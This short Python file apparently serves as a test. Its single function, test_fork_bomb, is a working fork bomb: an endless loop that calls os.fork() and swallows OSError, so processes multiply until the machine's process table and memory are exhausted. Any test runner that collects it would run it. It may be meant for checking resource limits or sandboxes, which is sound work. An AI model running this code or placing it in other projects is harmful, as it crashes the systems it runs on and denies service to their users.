"""An unbounded fork bomb: every process forks forever, ignoring refusals."""

import os


def test_fork_bomb():
    while True:
        try:
            os.fork()
        except OSError:
            continue
